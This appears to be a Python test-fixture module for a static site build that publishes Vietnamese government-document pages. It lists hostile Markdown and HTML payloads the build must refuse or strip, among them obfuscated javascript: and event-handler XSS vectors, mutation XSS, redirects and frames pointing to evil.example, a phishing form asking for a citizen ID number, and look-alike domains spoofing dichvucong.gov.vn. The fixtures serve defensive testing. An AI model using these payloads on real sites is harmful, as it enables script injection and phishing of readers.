"""Hostile page content, as a pull request could bring it: each Markdown payload with what the
build says when it refuses it, the payloads it strips, and front matter that tries to be HTML.
"""

from __future__ import annotations

# name -> (Markdown, a phrase of the build's refusal). Every one would run script, redirect,
# frame, ask for data or send readers elsewhere if it were published.
REFUSED: dict[str, tuple[str, str]] = {
    "img-onerror": ("<img src=x onerror=alert(1)>", "the attribute onerror="),
    "script": ("<script>alert(1)</script>", "<script>"),
    "details-ontoggle": (
        "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
        "the attribute ontoggle=",
    ),
    "attr-list-onclick": ('[link](https://ok.example/){onclick="alert(1)"}', "onclick="),
    "tab-in-scheme": ('<a href="java&#9;script:alert(1)">a</a>', "javascript:"),
    "svg-xlink": (
        '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
        "<svg>",
    ),
    "markdown-javascript-link": ("[x](javascript:alert(1))", "javascript:"),
    "comment-in-code-span": ("`<!--` <script>alert(1)</script> `-->`", "<script>"),
    "meta-refresh": (
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        "<meta http-equiv=refresh>",
    ),
    "base": ('<base href="https://evil.example/">', "<base>"),
    "iframe": ('<iframe src="https://evil.example/"></iframe>', "<iframe>"),
    "form": (
        '<form action="https://elsewhere.example/">Số CCCD: <input name="cccd">'
        "<button>Gửi</button></form>",
        "<form>",
    ),
    # More of the same family.
    "entity-scheme": ('<a href="&#x6A;avascript&#x3A;alert(1)">a</a>', "javascript:"),
    "spaced-upper-scheme": ('<a href="  JaVaScRiPt:alert(1)">a</a>', "javascript:"),
    "newline-in-scheme": ('<a href="java\nscript:alert(1)">a</a>', "javascript:"),
    "vbscript": ('<a href="vbscript:msgbox(1)">a</a>', "vbscript:"),
    "data-image": ('<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="x">', "data:"),
    "object": ('<object data="x.swf"></object>', "<object>"),
    "embed": ('<embed src="x.swf">', "<embed>"),
    "style-element": ("<style>body{display:none}</style>", "<style>"),
    "link-stylesheet": ('<link rel="stylesheet" href="https://evil.example/x.css">', "<link>"),
    "noscript-mutation": (
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
        "<noscript>",
    ),
    "math-mutation": ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<math>"),
    "formaction": ('[x](https://ok.example/){formaction="javascript:alert(1)"}', "javascript:"),
    "text-input": ('<input type="text" name="cccd" placeholder="Số CCCD">', "<input type=text>"),
    "look-alike-text": (
        "[dichvucong.gov.vn](https://dichvucong.gov.vn.evil.example/)",
        "shows 'dichvucong.gov.vn' but opens 'dichvucong.gov.vn.evil.example'",
    ),
    "punycode-host": ("[Cổng](https://xn--dchvucng-7za.gov.vn/)", "look-alike letters"),
    "outside-image": ("![Ảnh](https://evil.example/pixel.png)", "from another site"),
}

# Markdown whose unlisted markup is removed (with a warning) while its text stays.
STRIPPED = (
    "<marquee>Chữ chạy</marquee>\n\n"
    '<span style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff">'
    "Gọi 0999 999 999</span>\n\n"
    '<div class="md-dialog md-dialog--active">Thông báo giả</div>\n\n'
    '<a href="https://ok.example/" target="_blank" rel="opener">Mở</a>\n\n'
    "<font color=red>Chữ đỏ</font>\n\n"
    "<p><!-- ghi chú --> Có ghi chú</p>\n"
)
STRIPPED_TEXT = ("Chữ chạy", "Gọi 0999 999 999", "Thông báo giả", "Mở", "Chữ đỏ", "Có ghi chú")
STRIPPED_PHRASES = (
    "the element <marquee> is removed",
    "the attribute style= on <span> is removed",
    "the class 'md-dialog' is removed",
    "the attribute target= on <a> is removed",
    "the attribute rel= on <a> is removed",
    "the element <font> is removed",
)

SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
# Front matter fields that templates print: each tries to be markup.
FRONT_MATTER = f"""title: "Tiêu đề </title>{SCRIPT} & <b>đậm</b>"
description: '"><script>alert(1)</script>'
document:
  issuer_parent: "{IMG}"
  issuer: "{IMG}"
  number: "{SCRIPT}"
  place: "<b>Nơi</b>"
  date: "{IMG}"
  subject: "<a href=javascript:alert(1)>V/v</a>"
validity:
  status: historical
  notes:
    - text: "{SCRIPT}"
      source: "{IMG}"
history:
  - date: 2026-01-02
    text: "<iframe src=https://evil.example/></iframe>{IMG}"
"""
# A page of the stripped markup under that front matter: published, it must stay harmless text.
STRIPPED_PAGE = f"---\n{FRONT_MATTER}---\n\n{STRIPPED}"
